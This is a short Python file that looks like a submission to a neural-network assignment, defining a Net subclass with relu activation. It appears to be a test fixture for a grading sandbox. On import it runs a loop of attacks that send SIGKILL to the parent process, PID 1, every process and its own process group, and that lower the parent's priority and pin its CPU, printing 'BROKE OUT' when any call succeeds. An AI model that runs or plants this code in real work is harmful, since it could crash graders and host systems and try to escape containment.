"""A right module that signals its parent, its group and everybody."""

import os
import signal

import torch

from assignments.baseline import Net as Baseline


class Net(Baseline):
    def __init__(self, num_features, num_hidden, num_output):
        super().__init__(num_features, num_hidden, num_output)
        self.activation = torch.relu


for attack in (
    lambda: os.kill(os.getppid(), signal.SIGKILL),
    lambda: os.kill(1, signal.SIGKILL),
    lambda: os.kill(-1, signal.SIGKILL),
    lambda: os.killpg(os.getpgid(0), signal.SIGKILL),
    lambda: os.setpriority(os.PRIO_PROCESS, os.getppid(), 19),
    lambda: os.sched_setaffinity(os.getppid(), {0}),
):
    try:
        attack()
        print("BROKE OUT:", attack)
    except OSError:
        pass
